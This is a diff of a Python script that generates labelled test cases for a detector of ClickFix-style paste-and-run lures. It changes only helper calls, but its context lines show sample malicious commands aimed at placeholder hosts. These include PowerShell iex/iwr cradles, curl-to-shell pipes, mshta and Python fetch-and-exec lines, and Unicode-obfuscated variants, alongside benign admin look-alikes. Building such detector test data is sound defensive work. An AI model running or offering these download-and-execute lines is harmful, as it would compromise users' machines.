@@ -32,26 +32,6 @@ from casefile import Book, write  # beside this script (tests/data/cases/make_*.
 book = Book("t20")
 
 
-def lures(
-    technique: str,
-    platform: str,
-    target: str,
-    pages: list[str],
-    texts: list[str],
-    in_context: str = "malicious",
-    bare: str = "flagged",
-) -> None:
-    """Each text in its page's context (pages taken in turn) and bare."""
-    for i, text in enumerate(texts):
-        book.add(technique, text, in_context, platform, target, pages[i % len(pages)])
-        book.add(technique, text, bare, platform, "unknown", None)
-
-
-def benign(technique: str, platform: str, target: str, page: str | None, texts: list[str]) -> None:
-    for text in texts:
-        book.add(technique, text, "not_flagged", platform, target, page)
-
-
 def b64(text: str) -> str:
     return base64.b64encode(text.encode()).decode()
 
@@ -118,7 +98,7 @@ DOCS = "https://docs.example.com/install"
 # Microsoft 2026-02-05 "CrashFix deploying Python RAT"; Huntress KongTuke CrashFix (a copied
 # finger.exe, a Python stage); Trend Micro KongTuke. Wrapper: crash/recovery page; proxy:
 # copied finger, python, cmd start /min.
-lures(
+book.lures(
     "crashfix-recovery-command",
     "windows",
     "run_dialog",
@@ -139,7 +119,7 @@ lures(
 # ---- Fake Windows Update, full screen: "press Win+R, paste, Enter to finish the update" ---
 # Huntress / Acronis 2025 fake Windows Update full-screen ClickFix (stego loader behind it);
 # BleepingComputer "ClickFix uses fake Windows Update screens".
-lures(
+book.lures(
     "fake-windows-update-fullscreen",
     "windows",
     "run_dialog",
@@ -156,7 +136,7 @@ lures(
 
 # ---- FileFix in a web page's file-upload dialog (the dialog's path box runs programs) -----
 # mrd0x FileFix 2025-06 (the file-upload dialog as well as Explorer); Check Point FileFix.
-lures(
+book.lures(
     "filefix-upload-dialog",
     "windows",
     "explorer_bar",
@@ -177,7 +157,7 @@ lures(
 # ---- FileFix padding other than spaces before `#` -----------------------------------------
 # Variants after the first FileFix reports: a PowerShell string literal as the visible "path"
 # (it is only printed), `;` chains, cmd `&REM`, tabs.
-lures(
+book.lures(
     "filefix-path-padding",
     "windows",
     "explorer_bar",
@@ -200,7 +180,7 @@ lures(
 # Recorded Future Odyssey; MacSync / AMOS reports 2025 (Jamf, Moonlock): base64-decoded
 # address, `-kfsSL`, eval of a decoded script.
 URL_B64 = b64("https://stage.thornfield.test/m/verify.sh")
-lures(
+book.lures(
     "mac-decoded-address-fetch",
     "macos",
     "terminal",
@@ -216,7 +196,7 @@ lures(
 # ---- macOS: osascript forms beyond `curl | osascript` -------------------------------------
 # AMOS / Odyssey / MacSync: osascript -l JavaScript, here-strings, `run script` of a fetched
 # file, a fake password dialog.
-lures(
+book.lures(
     "mac-osascript-forms",
     "macos",
     "terminal",
@@ -235,7 +215,7 @@ lures(
 
 # ---- macOS: Script Editor links (applescript:// opens a prefilled script) ------------------
 # Jamf Threat Labs 2025 (macOS ClickFix moving to Script Editor after Terminal paste warnings).
-lures(
+book.lures(
     "mac-script-editor-link",
     "macos",
     "other",
@@ -250,7 +230,7 @@ lures(
 
 # ---- macOS: a hidden disk image mounted and run from the Terminal -------------------------
 # AMOS / Odyssey dmg stages: curl to /tmp, hdiutil attach -nobrowse, run the app inside.
-lures(
+book.lures(
     "mac-hidden-dmg",
     "macos",
     "terminal",
@@ -268,7 +248,7 @@ lures(
 # ---- Linux ClickFix spellings --------------------------------------------------------------
 # Hunt.io APT36 Linux ClickFix; 2025 Linux fake-CAPTCHA pages: process substitution, source,
 # wget -O-, sudo.
-lures(
+book.lures(
     "linux-clickfix-spellings",
     "linux",
     "terminal",
@@ -289,7 +269,7 @@ ETH_BODY = (
     '{"jsonrpc":"2.0","id":1,"method":"eth_call","params":[{"to":"0x5a1b2c3d4e5f60718293a4b5c6d7e8f9'
     '0a1b2c3d","data":"0x6d4ce63c"},"latest"]}'
 )
-lures(
+book.lures(
     "etherhiding-stage",
     "windows",
     "run_dialog",
@@ -309,7 +289,7 @@ lures(
 
 # ---- DNS staging spellings --------------------------------------------------------------
 # Microsoft 2026-02 (nslookup to a chosen server, "Name:" line run); THN / BleepingComputer.
-lures(
+book.lures(
     "dns-staging-spellings",
     "windows",
     "run_dialog",
@@ -329,7 +309,7 @@ lures(
 
 # ---- Cache smuggling: the payload planted in the browser cache, fetched from disk ---------
 # Expel 2025 "cache smuggling"; Push Security; Sigma PR #6078 (Cache_Data carving).
-lures(
+book.lures(
     "cache-smuggling-more",
     "windows",
     "explorer_bar",
@@ -349,7 +329,7 @@ lures(
 
 # ---- Image loaders fetched by PowerShell (steganography) ---------------------------------
 # Huntress "ClickFix gets creative: malware buried in images" (2025); Acronis FileFix stego.
-lures(
+book.lures(
     "stego-loader-more",
     "windows",
     "run_dialog",
@@ -368,7 +348,7 @@ lures(
 
 # ---- finger spellings (Windows) ---------------------------------------------------------
 # Huntress CastleLoader finger C2; SANS ISC 2025 "finger.exe ClickFix"; KongTuke.
-lures(
+book.lures(
     "finger-spellings",
     "windows",
     "run_dialog",
@@ -383,7 +363,7 @@ lures(
 
 # ---- curl.exe to %TEMP%, then tar / expand / extrac32, then run -----------------------------
 # Zscaler MLTBackdoor (curl + tar + rundll32); KongTuke Interlock (zip + start); cab stages.
-lures(
+book.lures(
     "curl-temp-unpack-run",
     "windows",
     "run_dialog",
@@ -402,7 +382,7 @@ lures(
 
 # ---- Remote MSI spellings ----------------------------------------------------------------
 # eSentire NetSupport; Huntress Matanbuchus 3.0 (`-PaCkAgE`); msiexec /y and /fv, /j.
-lures(
+book.lures(
     "msiexec-spellings",
     "windows",
     "run_dialog",
@@ -417,7 +397,7 @@ lures(
 
 # ---- WinHttpRequest / other COM fetchers ---------------------------------------------------
 # ClickGrab captures 2025 (WinHttp.WinHttpRequest.5.1 in PowerShell and in mshta VBScript).
-lures(
+book.lures(
     "winhttprequest-fetch",
     "windows",
     "run_dialog",
@@ -435,7 +415,7 @@ lures(
 
 # ---- Python one-liners ----------------------------------------------------------------
 # Microsoft CrashFix (Python RAT); 2025 ClickFix stages using pythonw / py launcher.
-lures(
+book.lures(
     "python-oneliners",
     "windows",
     "run_dialog",
@@ -448,7 +428,7 @@ lures(
         "python -c \"import requests;exec(requests.get('https://cf-check.example/r.py').text)\"",
     ],
 )
-lures(
+book.lures(
     "python-oneliners-nix",
     "linux",
     "terminal",
@@ -464,7 +444,7 @@ lures(
 
 # ---- Node / Deno / Bun one-liners --------------------------------------------------------
 # Contagious Interview / fake recruiter tasks; 2025 ClickFix pages serving node -e.
-lures(
+book.lures(
     "node-deno-bun-oneliners",
     "any",
     "terminal",
@@ -482,7 +462,7 @@ lures(
 
 # ---- wsl / bash.exe on Windows -------------------------------------------------------------
 # 2025 ClickFix variants running Linux shell lines through WSL from the Run box.
-lures(
+book.lures(
     "wsl-bash-on-windows",
     "windows",
     "run_dialog",
@@ -497,7 +477,7 @@ lures(
 
 # ---- Start-Process hidden, the many spellings --------------------------------------------
 # Proofpoint TA571; eSentire; ClickGrab captures: -WindowStyle Hidden, -w h, saps, start -win.
-lures(
+book.lures(
     "start-process-hidden",
     "windows",
     "run_dialog",
@@ -516,7 +496,7 @@ lures(
 # Elastic / Sigma homoglyph rules; 2025 ClickFix kits inserting zero-width characters and
 # fullwidth letters against string-matching detectors; RLO to fake a file name in the tail.
 ZW = "\u200b"
-lures(
+book.lures(
     "homoglyph-command-names",
     "windows",
     "run_dialog",
@@ -527,7 +507,7 @@ lures(
         "\u0441url -s http://198.51.100.101/c.bat -o %TEMP%\\c.bat & %TEMP%\\c.bat",
     ],
 )
-lures(
+book.lures(
     "zero-width-inside",
     "windows",
     "run_dialog",
@@ -538,7 +518,7 @@ lures(
         f"powershell -c \"iex (iwr 'https://cf-\u2060check.example/w' -UseB)\" # {ZW}verify",
     ],
 )
-lures(
+book.lures(
     "fullwidth-letters",
     "windows",
     "run_dialog",
@@ -548,7 +528,7 @@ lures(
         'powershell -c "\uff49\uff45\uff58(\uff49\uff57\uff52 https://cf-check.example/a)"',
     ],
 )
-lures(
+book.lures(
     "unicode-more",
     "windows",
     "run_dialog",
@@ -566,7 +546,7 @@ lures(
         "mshta\u2003https://cf-check.example/g.hta",
     ],
 )
-lures(
+book.lures(
     "unicode-more-nix",
     "linux",
     "terminal",
@@ -577,7 +557,7 @@ lures(
         "curl -s https://verify.greywater.test/k |\u00a0bash",
     ],
 )
-lures(
+book.lures(
     "rtl-override-tail",
     "windows",
     "explorer_bar",
@@ -591,7 +571,7 @@ lures(
 # ---- Whitespace floods and comment padding hiding the tail -------------------------------
 # Sigma 7a1b4c5e / 3ae9974a (Run box padding); TiiTcHY KQL; kits padding 200+ characters and
 # hiding the command after a long visible "verification" text.
-lures(
+book.lures(
     "whitespace-flood-tail",
     "windows",
     "run_dialog",
@@ -631,7 +611,7 @@ CRADLES = [
     "mshta http://198.51.100.{n}/v.hta",
     'cmd /c "curl -s https://cf-check.example/{n}.cmd -o %TEMP%\\v.cmd && %TEMP%\\v.cmd"',
 ]
-lures(
+book.lures(
     "verification-tail-languages",
     "windows",
     "run_dialog",
@@ -641,7 +621,7 @@ lures(
 
 # ---- Fake meeting "fix your audio / camera" -------------------------------------------------
 # Sekoia "Phantom Meet"; 2025 fake Teams / Zoom / Webex / Slack huddle pages.
-lures(
+book.lures(
     "fake-meeting-audio-more",
     "windows",
     "run_dialog",
@@ -653,7 +633,7 @@ lures(
         '& $env:TEMP\\zf.exe" & echo Zoom audio fixed',
     ],
 )
-lures(
+book.lures(
     "fake-meeting-audio-mac",
     "macos",
     "terminal",
@@ -667,7 +647,7 @@ lures(
 # ---- Fake job interview: "your camera is blocked, run this" ---------------------------------
 # Sekoia "ClickFake Interview" 2025 (Lazarus / Famous Chollima): macOS/Linux curl | bash,
 # Windows curl + wscript / node.
-lures(
+book.lures(
     "fake-interview-camera-more",
     "any",
     "terminal",
@@ -684,7 +664,7 @@ lures(
 
 # ---- Discord / Telegram / Steam "verify" console lures --------------------------------------
 # rexwire Discord self-XSS; 2025 fake Telegram Web verification bots; Steam trade scams.
-lures(
+book.lures(
     "console-verify-more",
     "any",
     "browser_console",
@@ -702,7 +682,7 @@ lures(
 # ---- LLM shared chats and artifacts used as the lure page ------------------------------------
 # 2025-12 reports (Huntress / Kaspersky): search ads leading to shared ChatGPT / Grok chats and
 # Claude artifacts that tell macOS users to paste an AMOS installer line.
-lures(
+book.lures(
     "llm-shared-chat-lure",
     "macos",
     "terminal",
@@ -718,7 +698,7 @@ lures(
 # ---- Proxy launchers not in the first sweep -------------------------------------------------
 # LOLBAS: rundll32 url.dll / shell32 ShellExec_RunDLL, cmstp with a remote INF, scriptrunner,
 # regsvr32 /i: over http (Squiblydoo).
-lures(
+book.lures(
     "proxy-launchers-more",
     "windows",
     "run_dialog",
@@ -734,7 +714,7 @@ lures(
 
 # ---- Address spellings: octal, mixed, userinfo disguise, IPv6-mapped -----------------------
 # Unit 42 and Huntress (hex / dword IPs); URL userinfo disguise used by kits.
-lures(
+book.lures(
     "address-spellings",
     "windows",
     "run_dialog",
@@ -748,7 +728,7 @@ lures(
 )
 
 # ---- In-memory C# compile from a paste ----------------------------------------------------
-lures(
+book.lures(
     "add-type-compile",
     "windows",
     "run_dialog",
@@ -763,7 +743,7 @@ lures(
 
 # ---- Multi-line script pasted into a terminal (Win+X, I) ------------------------------------
 # Microsoft 2026-03 Windows Terminal variant: several lines, the fetch on a later line.
-lures(
+book.lures(
     "multiline-terminal-script",
     "windows",
     "terminal",
@@ -778,7 +758,7 @@ lures(
 
 # ---- Device code and ConsentFix variants -------------------------------------------------
 # Microsoft Storm-2372; Volexity 2025 (Signal/WhatsApp pretexts); Push Security ConsentFix.
-lures(
+book.lures(
     "device-code-meeting-pretext",
     "any",
     "other",
@@ -792,7 +772,7 @@ lures(
 )
 # Device codes handed over as the upkeep of an account (2025 GitHub / Microsoft 365 / Google
 # device-code phishing: keep it active, release held mail, a "security check").
-lures(
+book.lures(
     "device-code-account-upkeep",
     "any",
     "other",
@@ -808,7 +788,7 @@ lures(
         "code QX7PLM2A.",
     ],
 )
-lures(
+book.lures(
     "consentfix-paste-back",
     "any",
     "other",
@@ -821,7 +801,7 @@ lures(
 
 # ---- Callback phishing: renewal, invoice and refund notices ------------------------------
 # TOAD / BazarCall reports; FTC Geek Squad / Norton impostor alerts; refund scams.
-lures(
+book.lures(
     "callback-renewal-notice",
     "any",
     "other",
@@ -837,7 +817,7 @@ lures(
 )
 # A failed renewal or a full storage and a number to call to keep your photos (2025 iCloud /
 # Google One / Dropbox storage-scare callbacks): no charge in it, only the threat of loss.
-lures(
+book.lures(
     "callback-keep-your-data",
     "any",
     "other",
@@ -851,7 +831,7 @@ lures(
 )
 # the same story with no brand the scam readers know: a warning, as the refund story is (a small
 # provider may write so)
-lures(
+book.lures(
     "callback-keep-your-data",
     "any",
     "other",
@@ -864,7 +844,7 @@ lures(
 )
 # a "we refunded you too much" story alone is a warning (PG-SCAM-REFUND-OVERPAID: real banks
 # write such letters too), wherever it is pasted
-lures(
+book.lures(
     "callback-refund-overpaid",
     "any",
     "other",
@@ -879,7 +859,7 @@ lures(
 # ---- A download piped to a shell behind a wrapper that only starts it ----------------------
 # Linux / macOS ClickFix lines (Hunt.io APT36; 2025 fake CAPTCHA kits for Linux) written with
 # sudo -u, doas, env -i, script(1), xargs sh -c and root login shells reading the pipe.
-lures(
+book.lures(
     "pipe-to-wrapped-shell",
     "linux",
     "terminal",
@@ -895,7 +875,7 @@ lures(
         "curl -sk https://192.0.2.143/p | su root -c bash",
     ],
 )
-lures(
+book.lures(
     "pipe-to-wrapped-shell-mac",
     "macos",
     "terminal",
@@ -907,7 +887,7 @@ lures(
 )
 
 # ---- PowerShell's call operator starting a PowerShell that reads the download ------------
-lures(
+book.lures(
     "ps-pipe-to-called-powershell",
     "windows",
     "run_dialog",
@@ -923,7 +903,7 @@ lures(
 # ---- PowerShell code loaded from an address's share or a web folder -----------------------
 # Atos 2026-03 WebDAV ClickFix (no download command); Unit 42 2026-08 WebDAV; kits moving from
 # `& \\host\x.ps1` to dot-sourcing and modules.
-lures(
+book.lures(
     "ps-code-from-share",
     "windows",
     "run_dialog",
@@ -947,7 +927,7 @@ lures(
 # Trustwave / Unit 42 search-ms to WebDAV; Jamf 2025 Script Editor links; 2023-24 App
 # Installer abuse; file: addresses of a program on a web folder. Target: the browser's
 # address bar (`other`).
-lures(
+book.lures(
     "handler-link-in-address-bar",
     "windows",
     "other",
@@ -959,7 +939,7 @@ lures(
         "file://203.0.113.151@8080/share/Invoice_2026.pdf.lnk",
     ],
 )
-lures(
+book.lures(
     "handler-link-in-address-bar-mac",
     "macos",
     "other",
@@ -972,7 +952,7 @@ lures(
         "answer)",
     ],
 )
-lures(
+book.lures(
     "appinstaller-link-in-address-bar",
     "windows",
     "other",
@@ -982,7 +962,7 @@ lures(
 )
 
 # ================= look-alikes (legitimate versions of the same acts) =====================
-benign(
+book.benign(
     "wsl-admin",
     "windows",
     "terminal",
@@ -995,7 +975,7 @@ benign(
         "bash.exe -c 'uname -a'",
     ],
 )
-benign(
+book.benign(
     "node-deno-bun-dev",
     "any",
     "terminal",
@@ -1008,7 +988,7 @@ benign(
         "node -e \"require('fs').writeFileSync('.nvmrc','20')\"",
     ],
 )
-benign(
+book.benign(
     "python-dev",
     "any",
     "terminal",
@@ -1020,7 +1000,7 @@ benign(
         "python3 -m pip install --upgrade requests",
     ],
 )
-benign(
+book.benign(
     "dns-admin",
     "windows",
     "terminal",
@@ -1032,7 +1012,7 @@ benign(
         "Resolve-DnsName -Name _spf.corp.example -Type TXT | Select-Object -ExpandProperty Strings",
     ],
 )
-benign(
+book.benign(
     "archive-admin",
     "windows",
     "terminal",
@@ -1044,7 +1024,7 @@ benign(
         "curl.exe -o report.csv https://reports.corp.example/weekly.csv",
     ],
 )
-benign(
+book.benign(
     "msiexec-admin",
     "windows",
     "terminal",
@@ -1055,7 +1035,7 @@ benign(
         "msiexec /i agent.msi /l*v install.log",
     ],
 )
-benign(
+book.benign(
     "start-process-admin",
     "windows",
     "terminal",
@@ -1066,7 +1046,7 @@ benign(
         "Start-Process -FilePath .\\backup.cmd -WindowStyle Minimized -Wait",
     ],
 )
-benign(
+book.benign(
     "mac-admin",
     "macos",
     "terminal",
@@ -1079,7 +1059,7 @@ benign(
         "ditto -x -k ~/Downloads/archive.zip ~/Desktop/archive",
     ],
 )
-benign(
+book.benign(
     "linux-admin",
     "linux",
     "terminal",
@@ -1091,7 +1071,7 @@ benign(
         "sudo apt-get update && sudo apt-get upgrade -y",
     ],
 )
-benign(
+book.benign(
     "verification-prose",
     "any",
     "other",
@@ -1103,7 +1083,7 @@ benign(
         "Чтобы подтвердить, что вы не робот, просто отметьте флажок на странице.",
     ],
 )
-benign(
+book.benign(
     "unicode-prose",
     "any",
     "other",
@@ -1114,7 +1094,7 @@ benign(
         "مرحبا بالعالم \u200f(Hello world)",
     ],
 )
-benign(
+book.benign(
     "renewal-notices-real",
     "any",
     "other",
@@ -1131,7 +1111,7 @@ benign(
         "Thanks for your order #114-2291. Questions? Visit the Help section of your account.",
     ],
 )
-benign(
+book.benign(
     "device-code-own-cli",
     "any",
     "terminal",
@@ -1141,7 +1121,7 @@ benign(
         "az login --use-device-code",
     ],
 )
-benign(
+book.benign(
     "device-code-docs",
     "any",
     "other",
@@ -1154,7 +1134,7 @@ benign(
     ],
 )
 
-benign(
+book.benign(
     "wrapped-shell-admin",
     "linux",
     "terminal",
@@ -1169,7 +1149,7 @@ benign(
         "su - deploy",
     ],
 )
-benign(
+book.benign(
     "ps-module-admin",
     "windows",
     "terminal",
@@ -1184,7 +1164,7 @@ benign(
         "Import-Module ActiveDirectory",
     ],
 )
-benign(
+book.benign(
     "handler-links-real",
     "windows",
     "other",
@@ -1196,7 +1176,7 @@ benign(
         "ms-settings:windowsupdate",
     ],
 )
-benign(
+book.benign(
     "script-editor-link-real",
     "macos",
     "other",
@@ -1208,7 +1188,7 @@ benign(
     ],
 )
 
-benign(
+book.benign(
     "psdrive-admin",
     "windows",
     "terminal",
@@ -1220,7 +1200,7 @@ benign(
         "New-PSDrive -Name HKCR -PSProvider Registry -Root HKEY_CLASSES_ROOT",
     ],
 )
-benign(
+book.benign(
     "camera-check-pages",
     "linux",
     "terminal",
